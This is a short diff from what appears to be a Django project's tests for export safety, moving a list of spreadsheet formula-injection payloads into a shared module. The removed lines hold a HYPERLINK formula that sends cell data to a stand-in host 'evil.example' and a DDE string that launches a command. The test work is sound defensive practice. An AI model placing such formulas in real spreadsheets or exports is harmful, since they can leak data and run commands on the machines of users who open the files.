@@ -7,16 +7,9 @@ from django.urls import reverse
 
 from attendees.models import Researcher
 from tables.models import Seat
+from tests.attendees.test_export_safety import ATTACKS, BOM
 
-BOM = b"\xef\xbb\xbf"
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1+1)",
-    "-2+3",
-    "\t=1+1",
-    "\r=1+1",
-]
+FORMULAS = ATTACKS
 
 
 @pytest.fixture
